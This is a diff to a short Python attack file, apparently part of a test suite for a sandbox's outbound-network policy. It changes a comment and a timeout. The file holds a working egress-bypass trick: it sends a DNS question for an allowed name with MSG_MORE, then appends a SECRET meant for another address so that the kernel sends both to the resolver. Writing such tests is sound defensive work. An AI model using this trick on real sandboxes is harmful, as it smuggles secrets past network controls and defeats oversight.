@@ -1,12 +1,12 @@
 # class: network
 # rule: outbound_connectivity
 # policy: names.yaml
-# success: a question about an allowed name is held back, and data for another place is put behind it
+# success: a question about an allowed name is held back, and data for another place appended to it
 # proof: query
 # needs: resolver
 import socket
 
-from attack import RESOLVER, SECRET, attempt
+from attack import RESOLVER, SECRET, attempt, patience
 
 
 def labels(*names):
@@ -20,7 +20,7 @@ def question(*names, records=0):
 @attempt
 def ask():
     out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    out.settimeout(3)
+    out.settimeout(patience(3))
     out.sendto(question("api", "allowed", "example"), socket.MSG_MORE, (RESOLVER, 53))
     # The kernel sends the whole to where the first part was to go.
     out.sendto(SECRET.encode(), ("127.0.0.1", 9))
